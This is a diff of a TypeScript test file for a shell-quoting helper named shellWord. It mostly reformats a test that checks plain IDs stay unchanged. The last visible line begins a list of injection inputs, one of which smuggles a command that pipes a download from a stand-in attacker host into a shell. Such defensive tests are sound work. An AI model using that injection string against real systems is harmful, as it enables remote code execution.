@@ -4,12 +4,9 @@ import { $ } from 'bun'
 const page = './page/dom.js' // Not TypeScript.
 const { shellWord } = (await import(page)) as { shellWord: (text: string) => string }
 
-test.each(['pay_Zk3nT0a7yQm1c5VbXw9uRd', '0x12:3', 'invoice.paid'])(
-  'shell quoting leaves %s unchanged',
-  (id) => {
-    expect(shellWord(id)).toBe(id)
-  },
-)
+test.each(['pay_Zk3nT0a7yQm1c5VbXw9uRd', '0x12:3', 'invoice.paid'])('shell quoting leaves %s unchanged', (id) => {
+  expect(shellWord(id)).toBe(id)
+})
 
 test.each([
   'invoice.paid;curl evil.example|sh;#',
